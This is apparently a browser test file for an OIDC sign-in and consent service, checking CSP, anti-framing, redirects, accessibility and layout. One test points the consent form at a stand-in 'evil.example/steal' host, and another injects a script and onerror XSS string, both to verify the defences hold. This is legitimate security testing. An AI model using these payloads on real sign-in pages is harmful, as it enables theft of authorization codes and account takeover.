/** What only a real browser can say about sign-in and consent: CSP, framing, cookies, scripts. */
import { once } from 'node:events'
import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import type { Browser, BrowserContextOptions, Page } from 'playwright-core'
import { afterAll, beforeAll, expect, it } from 'vitest'
import { startOf } from '../support/oidc/application.ts'
import { openPlace, PASSWORD, type Place, REDIRECT_URI } from '../support/oidc/testing.ts'
import { launch } from './chromium.ts'

let place: Place
let browser: Browser
beforeAll(async () => {
  place = await openPlace()
  browser = await launch()
})
afterAll(async () => {
  await browser.close()
  await place.close()
})

/** A page, with what its console complained about and the addresses it asked for. */
async function openTab(
  options: BrowserContextOptions = {},
): Promise<{ page: Page; complaints: string[]; asked: string[] }> {
  const page = await (await browser.newContext(options)).newPage()
  const complaints: string[] = []
  const asked: string[] = []
  page.on('console', (message) => message.type() === 'error' && complaints.push(message.text()))
  page.on('dialog', (dialog) => {
    complaints.push(`dialog ${dialog.message()}`)
    void dialog.dismiss()
  })
  page.on('request', (request) => asked.push(request.url()))
  return { page, complaints, asked }
}

async function signIn(page: Page, url: string): Promise<void> {
  await page.goto(url)
  await page.fill('input[name=email]', 'ada@example.com')
  await page.fill('input[name=password]', PASSWORD)
  await page.click('button[type=submit]')
  await page.waitForSelector('button[value=approve]')
}

async function serve(host: string, body: string): Promise<{ server: Server; port: number; received: string[] }> {
  const received: string[] = []
  const server = createServer((request, response) => {
    received.push(request.url ?? '')
    response.setHeader('content-type', 'text/html')
    response.end(body)
  }).listen(0, host)
  await once(server, 'listening')
  return { server, port: (server.address() as AddressInfo).port, received }
}

it.each([
  ['127.0.0.1', '127.0.0.1'],
  ['::1', '[::1]'],
])(
  'OIDC-K5, OIDC-V21, OIDC-A4: consent leads to a loopback application on %s, with JavaScript off',
  async (address, host) => {
    const app = await serve(address, 'arrived')
    const client = await place.addClient({
      kind: 'public',
      applicationType: 'native',
      redirectUris: [`http://${host}/cb`],
    })
    const { page, complaints } = await openTab({ javaScriptEnabled: false })
    await signIn(page, startOf(place, client.id, { redirect_uri: `http://${host}:${app.port}/cb` }).url)
    await page.click('button[value=approve]')
    await page.waitForURL(/\/cb\?code=/)
    expect(app.received.some((url) => url.startsWith('/cb?code='))).toBe(true)
    expect(complaints).toEqual([])
    app.server.close()
  },
)

it.each([
  ['https', REDIRECT_URI, 'web'],
  ['a private scheme', 'com.example.app:/cb', 'native'],
] as const)('OIDC-K5, OIDC-V21, OIDC-A5: the policy lets the answer go to %s', async (_name, uri, applicationType) => {
  const client = await place.addClient({ kind: 'public', applicationType, redirectUris: [uri] })
  const { page, complaints, asked } = await openTab()
  await signIn(page, startOf(place, client.id, { redirect_uri: uri }).url)
  const answered = page.waitForResponse((response) => response.url().endsWith('/consent') && response.status() === 303)
  await page.click('button[value=approve]')
  expect((await answered).headers().location).toContain(`${uri}?code=`)
  await page.waitForTimeout(300)
  expect(complaints.filter((text) => /content security policy|form-action/i.test(text))).toEqual([])
  if (uri.startsWith('https')) expect(asked.some((url) => url.startsWith(`${uri}?code=`))).toBe(true)
})

it('OIDC-K5, OIDC-V21: the same policy stops the answer from going anywhere else', async () => {
  const client = await place.addClient({ kind: 'public', redirectUris: [REDIRECT_URI] })
  const { page, complaints, asked } = await openTab()
  await signIn(page, startOf(place, client.id).url)
  // Code for the page is text: this folder is type-checked without the browser's globals.
  await page.evaluate(`document.querySelector('form[action$="/consent"]').action = 'https://evil.example/steal'`)
  // The click never finishes: the navigation it waits for is refused.
  await page.click('button[value=approve]', { timeout: 2000 }).catch(() => undefined)
  await page.waitForTimeout(300)
  expect(complaints.join()).toMatch(/form-action/)
  expect(asked.some((url) => url.includes('evil'))).toBe(false)
})

it('OIDC-C3: charge points can be ticked only where ticks count, with the keyboard and without JavaScript', async () => {
  const client = await place.addClient({ kind: 'public' })
  const { page } = await openTab({ javaScriptEnabled: false })
  await signIn(page, startOf(place, client.id).url)
  const tick = page.locator('input[type=checkbox][value=CP2]')
  expect(await tick.isVisible()).toBe(true)
  await page.check('input[name=share][value=all]')
  expect(await tick.isVisible()).toBe(false)
  await page.focus('input[name=share][value=all]')
  await page.keyboard.press('ArrowDown')
  expect(await tick.isVisible()).toBe(true)
  await tick.focus()
  await page.keyboard.press('Space')
  await page.focus('button[value=approve]')
  await page.keyboard.press('Enter')
  await expect.poll(() => place.reads.findActiveGrant('ada', client.id)).toMatchObject({ chargePoints: ['CP2'] })
})

it('OIDC-C3, OIDC-N1: Enter in the search filters the list, keeps what is ticked and approves nothing', async () => {
  const client = await place.addClient({ kind: 'public' })
  const { page } = await openTab({ javaScriptEnabled: false })
  await signIn(page, startOf(place, client.id).url)
  await page.check('input[name=share][value=chosen]')
  await page.check('input[type=checkbox][value=CP2]')
  await page.fill('input[name=query]', 'north')
  await page.press('input[name=query]', 'Enter')
  await page.waitForSelector('input[type=hidden][value=CP2]', { state: 'attached' })
  expect(await page.locator('ul.scroll li').count()).toBe(1)
  expect(await place.reads.findActiveGrant('ada', client.id)).toBeUndefined()
})

it('OIDC-A19: sign-in and consent cannot be framed', async () => {
  const frame = await serve('127.0.0.1', `<iframe src="${place.config.dashboardUrl}/login"></iframe>`)
  const { page, complaints } = await openTab()
  await page.goto(`http://127.0.0.1:${frame.port}/`)
  await page.waitForTimeout(300)
  expect(complaints.join()).toMatch(/frame-ancestors|X-Frame-Options|refused to connect|Framing/i)
  for (const inner of page.frames().slice(1)) expect(await inner.content()).not.toContain('type="password"')
  frame.server.close()
})

it('OIDC-T9, OIDC-X1: a single-page application on another origin exchanges its code and reads userinfo', async () => {
  const app = await serve('127.0.0.1', 'app')
  const redirectUri = `http://127.0.0.1:${app.port}/cb`
  const client = await place.addClient({ kind: 'public', redirectUris: [redirectUri] })
  const { page } = await openTab()
  const start = startOf(place, client.id, { redirect_uri: redirectUri })
  await signIn(page, start.url)
  await page.click('button[value=approve]')
  await page.waitForURL(/\/cb\?code=/)
  const code = new URL(page.url()).searchParams.get('code') ?? ''
  const fields = {
    grant_type: 'authorization_code',
    code,
    client_id: client.id,
    code_verifier: start.verifier,
    redirect_uri: redirectUri,
  }
  const subject = await page.evaluate(`(async ({ issuer, fields }) => {
      const response = await fetch(issuer + '/token', { method: 'POST', body: new URLSearchParams(fields) })
      const { access_token } = await response.json()
      const user = await fetch(issuer + '/userinfo', { headers: { authorization: 'Bearer ' + access_token } })
      return (await user.json()).sub
    })(${JSON.stringify({ issuer: place.issuer, fields })})`)
  expect(subject).toBe('ada')
  app.server.close()
})

it('OIDC-V14: hostile strings are inert on sign-in, consent and error pages', async () => {
  const hostile = '"><script>alert(1)</script><img src=x onerror=alert(2)>'
  const client = await place.addClient({ kind: 'public', name: hostile })
  const { page, complaints } = await openTab()
  await page.goto(startOf(place, client.id, { login_hint: hostile, ui_locales: hostile, state: hostile }).url)
  expect(await page.inputValue('input[name=email]')).toBe(hostile)
  await signIn(page, startOf(place, client.id).url)
  expect(await page.textContent('h1')).toContain('<script>alert(1)</script>')
  await page.goto(
    `${place.config.dashboardUrl}/oauth/authorize?${new URLSearchParams({ client_id: hostile, redirect_uri: hostile })}`,
  )
  expect(complaints.filter((text) => text.startsWith('dialog'))).toEqual([])
})

it('OIDC-V14: long names break, so that the buttons of sign-in and consent stay on a phone’s screen', async () => {
  await place.writes.updateChargePoint('A', 'CP1', { name: 'Wallbox'.repeat(14) })
  const client = await place.addClient({ kind: 'public', name: 'Fleet'.repeat(20) })
  const { page } = await openTab({ viewport: { width: 390, height: 844 } })
  const tooWide = () => page.evaluate<number>('document.documentElement.scrollWidth - innerWidth')
  await page.goto(startOf(place, client.id).url)
  expect(await tooWide()).toBeLessThanOrEqual(0)
  await signIn(page, startOf(place, client.id).url)
  expect(await tooWide()).toBeLessThanOrEqual(0)
})

it('OIDC-L4: an address with umlauts signs in as it is known; browsers rewrite or refuse it in a field for e-mail', async () => {
  await place.writes.createUser({ ...place.ada, id: 'juergen', email: 'jürgen@bücher.example' })
  const { page } = await openTab()
  await page.goto(`${place.config.dashboardUrl}/login?next=/dashboard/sign-ins`)
  await page.fill('input[name=email]', 'jürgen@bücher.example')
  await page.fill('input[name=password]', PASSWORD)
  await page.click('button[type=submit]')
  await page.waitForURL(({ pathname }) => pathname === '/dashboard/sign-ins')
})
it('OIDC-L1, OIDC-L2: sign-in, connected applications and sign-out by clicking', async () => {
  const { page } = await openTab({ javaScriptEnabled: false })
  await page.goto(`${place.config.dashboardUrl}/sign-ins`)
  await page.fill('input[name=email]', 'bob@example.com')
  await page.fill('input[name=password]', PASSWORD)
  await page.click('main button[type=submit]')
  await page.waitForURL(({ pathname }) => pathname === '/dashboard/sign-ins')
  // The user's menu opens without a script.
  const openMenu = () => page.click('header button[popovertarget]:not(.phone-only)')
  await openMenu()
  await page.click('header a[href$="/applications"]')
  expect(await page.textContent('h1')).toBe('Connected applications')
  await openMenu()
  await page.click('header form[action$="/logout"] button')
  expect(await page.textContent('h1')).toBe('You are signed out.')
})
